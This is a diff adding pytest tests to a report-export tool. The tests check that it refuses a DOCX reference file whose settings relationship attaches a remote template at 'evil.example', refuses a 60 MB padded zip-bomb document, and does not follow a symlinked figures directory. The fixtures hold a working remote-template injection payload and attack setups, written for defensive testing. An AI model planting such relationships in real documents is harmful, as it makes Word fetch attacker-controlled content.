@@ -5,6 +5,7 @@ from __future__ import annotations
 import re
 import sys
 import zipfile
+from pathlib import Path
 
 import pytest
 from format_readers import (
@@ -18,6 +19,7 @@ from format_readers import (
 )
 from report_helpers import rich_session
 
+from facilitator.base.errors import ReportError
 from facilitator.domain.model import SectionDraft
 from facilitator.reports import formats
 from facilitator.reports.document_meta import document_meta
@@ -270,3 +272,50 @@ def test_export_mistakes_are_one_line(cli, demo, tmp_path, args, message):
     result = cli("export", demo, *args, cwd=tmp_path)
     assert result.returncode == 1
     assert message in result.stderr and len(result.stderr.strip().splitlines()) == 1
+
+
+def _reference_with(tmp_path, name: str, changes: dict[str, bytes]) -> Path:
+    from facilitator.reports.formats.docx import DEFAULT_REFERENCE
+
+    path = tmp_path / name
+    with zipfile.ZipFile(DEFAULT_REFERENCE) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            target.writestr(item, changes.pop(item.filename, source.read(item)))
+        for filename, data in changes.items():
+            target.writestr(filename, data)
+    return path
+
+
+def test_a_hostile_reference_document_is_refused_in_one_line(tmp_path):
+    """A reference document is a house style: not a remote template Word would fetch, not a zip
+    bomb that makes pandoc take gigabytes (both found by the red team)."""
+    from facilitator.reports.formats.docx import reference_doc
+
+    remote = _reference_with(
+        tmp_path,
+        "remote.docx",
+        {
+            "word/_rels/settings.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org'
+            b'/package/2006/relationships"><Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/'
+            b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
+            b'TargetMode="External"/></Relationships>'
+        },
+    )
+    bomb = _reference_with(tmp_path, "bomb.docx", {"word/padding.xml": b" " * 60_000_000})
+    for path, said in ((remote, "links to files outside itself"), (bomb, "too large")):
+        with pytest.raises(ReportError) as refused:
+            reference_doc(path, None)
+        assert said in str(refused.value) and "\n" not in str(refused.value)
+    assert reference_doc(None, None).is_file()  # ours passes its own check
+
+
+def test_a_figures_link_next_to_the_export_is_not_followed(cli, demo, tmp_path):
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (elsewhere / "scorecard-radar.svg").write_text("keep", encoding="utf-8")
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "figures").symlink_to(elsewhere)
+    result = cli("export", demo, "--document", "scorecard", "-o", str(out / "s.md"))
+    assert result.returncode == 1 and "is a link" in result.stderr
+    assert (elsewhere / "scorecard-radar.svg").read_text(encoding="utf-8") == "keep"
